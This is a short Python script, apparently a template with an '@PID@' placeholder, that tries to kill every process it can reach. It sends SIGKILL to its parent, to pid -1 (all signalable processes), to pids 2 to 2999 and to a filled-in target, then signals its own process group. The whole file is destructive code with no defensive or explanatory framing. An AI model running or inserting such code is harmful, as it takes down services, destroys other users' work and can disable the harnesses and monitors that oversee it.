# Every process that it can name, its parent first.
import os
import signal

for pid in filter(None, (os.getppid(), -1, *range(2, 3000), int("@PID@"))):
    try:
        os.kill(pid, signal.SIGKILL)
        print("killed", pid)
    except OSError:
        pass
try:
    os.killpg(0, signal.SIGTERM)
except OSError:
    pass
